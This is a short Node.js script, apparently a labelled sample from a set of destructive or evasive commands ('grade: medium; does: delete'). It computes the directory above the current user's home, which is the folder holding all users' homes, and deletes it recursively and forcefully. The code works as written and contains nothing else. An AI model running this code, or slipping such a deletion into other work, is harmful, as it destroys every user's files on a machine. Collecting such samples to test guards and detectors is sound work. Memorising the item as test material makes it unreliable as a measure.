// evasion: the directory of every user's home, as path.join(os.homedir(), '..'), deleted recursively
// grade: medium; does: delete
'use strict';
const { rm } = require('fs/promises');
const os = require('os');
const path = require('path');

const users = path.join(os.homedir(), '..');
rm(users, { recursive: true, force: true }).then(() => console.log('done'));
